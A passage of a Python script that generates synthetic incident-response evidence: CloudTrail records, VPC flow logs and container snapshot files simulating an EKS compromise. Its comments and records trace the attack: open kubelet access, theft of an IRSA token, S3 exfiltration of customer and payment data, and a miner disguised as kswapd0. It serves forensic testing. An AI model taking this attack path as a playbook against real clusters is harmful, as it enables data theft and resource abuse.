        return ct.record(ACCT, t, identity, source, name, ip, ua, req, resp, category, ro, extra)
    assume = lambda t, ip, ua, name, key, extra=None: rec(
        t, web_identity, "sts.amazonaws.com", "AssumeRoleWithWebIdentity", ip, ua,
        {"roleArn": ETL_ROLE, "roleSessionName": name, "durationSeconds": 3600},
        {"credentials": {"accessKeyId": key, "sessionToken": "redacted", "expiration": "Nov 21, 2026, %d:%s AM" % (int(t[:2]) + 1, t[3:8])},
         "subjectFromWebIdentityToken": ETL_SA_USER, "assumedRoleUser": {"assumedRoleId": "AROAUETLWORKERIRSA01:" + name,
                                                                         "arn": "arn:aws:sts::%s:assumed-role/etl-worker-irsa/%s" % (ACCT, name)},
         "provider": OIDC, "audience": "sts.amazonaws.com"}, extra=extra)
    boto = "Boto3/1.35.54 md/Botocore#1.35.54 ua/2.0 os/linux#6.1.112-124.190.amzn2023.x86_64 md/arch#x86_64 lang/python#3.12.7 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.35.54"
    cli = "aws-cli/2.18.0 md/awscrt#0.22.0 ua/2.0 os/linux#6.8.0-48-generic md/arch#x86_64 lang/python#3.12.6 md/pyimpl#CPython md/installer#exe md/distrib#ubuntu.24 md/prompt#off md/command#"
    pod = session_identity(POD_SESSION_NAME, POD_KEY, "08:10:40")
    stolen = session_identity(STOLEN_SESSION_NAME, STOLEN_KEY, "10:12:05")
    s3_get = lambda t, ident, ip, ua, key, extra=None: rec(
        t, ident, "s3.amazonaws.com", "GetObject", ip, ua,
        {"bucketName": "acme-datalake-raw", "Host": "acme-datalake-raw.s3.us-west-2.amazonaws.com", "key": key}, None,
        category="Data", extra=dict({"resources": [{"type": "AWS::S3::Object", "ARN": "arn:aws:s3:::acme-datalake-raw/" + key},
                                                   {"accountId": ACCT, "type": "AWS::S3::Bucket", "ARN": "arn:aws:s3:::acme-datalake-raw"}],
                                     "additionalEventData": {"SignatureVersion": "SigV4", "CipherSuite": "TLS_AES_128_GCM_SHA256",
                                                             "bytesTransferredIn": 0, "AuthenticationMethod": "AuthHeader",
                                                             "x-amz-id-2": "k9Qz1EXAMPLE=", "bytesTransferredOut": 48211730}}, **(extra or {})))
    records = [
        rec("07:58:30", node_identity, "ecr.amazonaws.com", "GetAuthorizationToken", NODE_IP,
            "ecr-credential-provider/v1.31.0 aws-sdk-go-v2/1.30.3 os/linux lang/go#1.22.5 md/GOOS#linux md/GOARCH#amd64 api/ecr#1.32.0",
            {"registryIds": [ACCT]}, None),
        # the worker's own session, from its address through the STS and S3 VPC endpoints
        assume("08:10:40", ETL_IP, boto, POD_SESSION_NAME, POD_KEY, extra={"vpcEndpointId": "vpce-0a1b2c3d4e5f60718"}),
        s3_get("09:30:12", pod, ETL_IP, boto, "exports/customers/2026-11-20.parquet", extra={"vpcEndpointId": "vpce-0b2c3d4e5f6a70819"}),
        # the IRSA token read through the kubelet, exchanged from the attacker's address, the data taken
        assume("10:12:05", ATTACKER, cli + "sts.assume-role-with-web-identity", STOLEN_SESSION_NAME, STOLEN_KEY),
        rec("10:12:40", stolen, "sts.amazonaws.com", "GetCallerIdentity", ATTACKER, cli + "sts.get-caller-identity", None, None),
        rec("10:13:02", stolen, "s3.amazonaws.com", "ListBuckets", ATTACKER, "[" + cli + "s3.ls]", {"Host": "s3.us-west-2.amazonaws.com"}, None),
        s3_get("10:14:11", stolen, ATTACKER, "[" + cli + "s3.cp]", "exports/customers/2026-11-20.parquet"),
        s3_get("10:14:58", stolen, ATTACKER, "[" + cli + "s3.cp]", "exports/payments/2026-11-20.parquet"),
    ]
    records.sort(key=lambda r: r["eventTime"])
    return json.dumps({"Records": records}, separators=(",", ":"))

# ---------------------------------------------------------------------------------------------------- VPC Flow v5
FLOW_FIELDS = ("version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action "
               "log-status vpc-id subnet-id instance-id tcp-flags type pkt-srcaddr pkt-dstaddr region az-id "
               "sublocation-type sublocation-id pkt-src-aws-service pkt-dst-aws-service flow-direction traffic-path")

def flows(acct, eni, vpc, instance, records):
    out = [FLOW_FIELDS + "\n"]
    for src, dst, sp, dp, pk, by, start, direction in records:
        s = int(epoch(start))
        out.append("5 %s %s %s %s %d %d 6 %d %d %d %d ACCEPT OK %s %s %s %d IPv4 %s %s %s %s - - - - %s %s\n" % (
            acct, eni, src, dst, sp, dp, pk, by, s, s + 59, vpc, SUBNET, instance, 19 if pk < 30 else 18, src, dst, REGION,
            AZ_ID, direction, "8" if direction == "egress" else "-"))
    return "".join(out)

def prod_flows():
    r = [
        # the kubelet's port, from the internet, on the node's own address (anonymous /pods, /run, /exec)
        (ATTACKER, NODE_IP, 51234, 10250, 14, 4120, "10:02:14", "ingress"),
        (ATTACKER, NODE_IP, 51240, 10250, 22, 6311, "10:03:41", "ingress"),
        (ATTACKER, NODE_IP, 51262, 10250, 18, 5530, "10:05:19", "ingress"),
        # the control plane's own calls to the kubelet (logs, metrics): routine
        ("10.72.0.45", NODE_IP, 44120, 10250, 40, 22114, "10:04:00", "ingress"),
        # the miner's download and its pool
        (ETL_IP, ATTACKER, 48812, 8080, 310, 6211077, "10:05:20", "egress"),
        (ETL_IP, POOL_IP, 39114, 3333, 52, 14877, "10:05:24", "egress"),
        (ETL_IP, POOL_IP, 39114, 3333, 61, 16023, "10:06:24", "egress"),
        (ETL_IP, POOL_IP, 39114, 3333, 58, 15500, "10:07:24", "egress"),
        # the bystander's database and its load balancer
        (API_IP, "10.72.30.15", 51744, 5432, 44, 9120, "10:04:12", "egress"),
        ("10.72.1.21", API_IP, 41007, 8000, 12, 3308, "10:05:00", "ingress"),
    ]
    return flows(ACCT, ENI, VPC, INSTANCE, r)

def dr_flows():
    r = [
        # the same addresses in the other cluster's VPC, at the same minutes: its control plane scraping its kubelet,
        # its pod talking to its Kafka
        ("10.72.0.45", NODE_IP, 40022, 10250, 38, 20411, "10:03:00", "ingress"),
        (ETL_IP, "10.72.40.9", 40118, 9092, 220, 801334, "10:05:00", "egress"),
    ]
    return flows(DR_ACCT, DR_ENI, DR_VPC, DR_INSTANCE, r)

# ------------------------------------------------------------------------------------- containerd snapshotter (bbolt)
def snapshotter_db(path):
    """The overlayfs snapshotter's metadata.db as containerd writes it (the real bbolt library, through ingest's
    fixtures/containerd-snapshotter/make_metadata_db.go): the image layers (committed), each container's writable
    layer (active, key = its container id), the pods' sandboxes."""
    layer = lambda n: "k8s.io/%d/sha256:%s" % (n, ("%02x" % (n + 100)) * 32)
    specs = [layer(2) + "|2|3", layer(30) + "|30|3", layer(31) + "|31|3|" + layer(30), layer(40) + "|40|3",
             "k8s.io/33/%s|33|2|%s" % (ETL_SANDBOX, layer(2)), "k8s.io/34/%s|34|2|%s" % (ETL_CTR, layer(31)),
             "k8s.io/35/%s|35|2|%s" % (API_SANDBOX, layer(2)), "k8s.io/36/%s|36|2|%s" % (API_CTR, layer(40))]
    os.makedirs(os.path.dirname(path), exist_ok=True)
    tool = os.path.join(HERE, "../../../../../../ingest/src/test/resources/fixtures/containerd-snapshotter/make_metadata_db.go")
    env = dict(os.environ, GO111MODULE="off", GOPATH="/usr/share/gocode", GOCACHE="/tmp/strata-gocache")
    subprocess.run(["go", "run", os.path.normpath(tool), path] + specs, check=True, env=env)
    os.chmod(path, 0o644)

# ------------------------------------------------------------------------------------------------------------ main
def main():
    if os.path.exists(OUT):
        shutil.rmtree(OUT)
    write("strata-context.yaml", "\n".join([
        "# what the responder collected, and where from (the collector's context manifest): data-eks (271828182845) and",
        "# its disaster-recovery twin data-eks-dr (161803398874), whose VPC uses the same 10.72.0.0/16",
        "- path: prod/control-plane", "  cluster: %s" % CLUSTER, "  cloud_provider: aws", '  cloud_account: "%s"' % ACCT,
        "  cloud_region: %s" % REGION,
        "- path: prod/nodes/ip-10-72-14-203", "  host: %s" % NODE, "  cluster: %s" % CLUSTER, "  cloud_provider: aws",
        '  cloud_account: "%s"' % ACCT, "  cloud_region: %s" % REGION, "  cloud_instance: %s" % INSTANCE,
        "- path: dr/control-plane", "  cluster: %s" % DR_CLUSTER, "  cloud_provider: aws", '  cloud_account: "%s"' % DR_ACCT,
        "  cloud_region: %s" % REGION, ""]))
    write("prod/control-plane/cloudwatch/filter-log-events-kube-apiserver-audit.json",
          json.dumps(filter_log_events(prod_audit(), "kube-apiserver-audit-8f3e1a2b4c5d6e7f8091a2b3c4d5e6f7"), indent=4) + "\n")
    write("prod/control-plane/kubectl/events.json", json.dumps(events(), indent=4) + "\n")
    write("dr/control-plane/var/log/kubernetes/audit/audit.log", jl(dr_audit()))
    node = "prod/nodes/ip-10-72-14-203/"
    older, current = cri_etl()
    etl_dir = node + "var/log/pods/%s_%s_%s/worker/" % (NS, ETL, ETL_UID)
    write(etl_dir + "0.log.20261121-094500.gz", older, gz=True)
    write(etl_dir + "0.log", current)
    write(node + "var/log/pods/%s_%s_%s/api/0.log" % (NS, API, API_UID), cri_api())
    write(node + "var/run/cilium/tetragon/tetragon.log", tetragon())
    write(node + "journal/falco-modern-bpf.json", falco_journal())
    snap = node + "var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/"
    snapshotter_db(os.path.join(OUT, snap + "metadata.db"))
    write(snap + "snapshots/30/fs/usr/local/bin/python3.12", "\x7fELF python (image layer)\n")
    write(snap + "snapshots/31/fs/app/etl/worker.py", "# etl worker (image layer)\n")
    write(snap + "snapshots/34/fs/tmp/.cache/kswapd0", "\x7fELF xmrig 6.21.3 renamed (dropped through the kubelet)\n")
    os.chmod(os.path.join(OUT, snap + "snapshots/34/fs/tmp/.cache/kswapd0"), 0o755)
    write(snap + "snapshots/34/fs/tmp/etl/part-0042.parquet", "PAR1 partial batch (the worker's own scratch file)\n")
    write(snap + "snapshots/36/fs/tmp/healthy", "ok\n")
    write("AWSLogs/%s/CloudTrail/%s/2026/11/21/%s_CloudTrail_%s_20261121T1015Z_Qm7pW2xYz9KdT4vB.json.gz" % (ACCT, REGION, ACCT, REGION),
          cloudtrail(), gz=True)
    write("AWSLogs/%s/vpcflowlogs/%s/2026/11/21/%s_vpcflowlogs_%s_fl-07e6d5c4b3a291807_20261121T1010Z_5c4b3a29.log.gz" % (ACCT, REGION, ACCT, REGION),
          prod_flows(), gz=True)
    write("AWSLogs/%s/vpcflowlogs/%s/2026/11/21/%s_vpcflowlogs_%s_fl-0f1e2d3c4b5a69708_20261121T1010Z_d3c2b1a0.log.gz" % (DR_ACCT, REGION, DR_ACCT, REGION),
          dr_flows(), gz=True)

if __name__ == "__main__":
    main()
